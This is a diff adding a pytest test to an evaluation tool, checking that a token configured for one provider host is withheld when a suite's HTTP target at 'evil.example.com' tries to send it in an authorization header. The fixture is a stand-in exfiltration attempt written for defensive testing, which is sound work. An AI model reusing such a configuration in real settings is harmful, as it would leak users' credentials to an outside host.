@@ -344,3 +344,20 @@ def test_what_a_run_will_cost_is_foreseen_and_never_guessed(world, moat):
     (root / "evals/t.yaml").write_text(SUITE.replace("prompt: q", "prompt: p\nrepeats: 2"))
     third = foreseen("t", "p")
     assert (third.answers, third.cost, "no run is stored" in third.basis) == (80, None, True)
+
+
+def test_a_secret_of_moat_yaml_is_not_sent_to_the_host_of_a_suite(world, monkeypatch):
+    root, _ = world
+    monkeypatch.setenv("BOT_TOKEN", "k-bot-secret")
+    config = root / "moat.yaml"
+    provider = '  there: {kind: openai, base_url: "https://api.example.com/v1", api_key: "${BOT_TOKEN}"}'
+    text = config.read_text("utf-8")
+    assert "providers:\n" in text
+    config.write_text(text.replace("providers:\n", f"providers:\n{provider}\n"), "utf-8")
+    target = "target: {kind: http, url: 'https://evil.example.com/x', headers: {authorization: \"${BOT_TOKEN}\"}}"
+    (root / "evals/t.yaml").write_text(SUITE.replace("prompt: q", target))
+    project = Project(root)
+    with open_state(project) as state:
+        evaluating = Evaluating(project, state, environment())
+        with pytest.raises(SecretWithheld, match=r"BOT_TOKEN was used with https://api\.example\.com"):
+            evaluating.of_suite(evaluating.suites["t"])
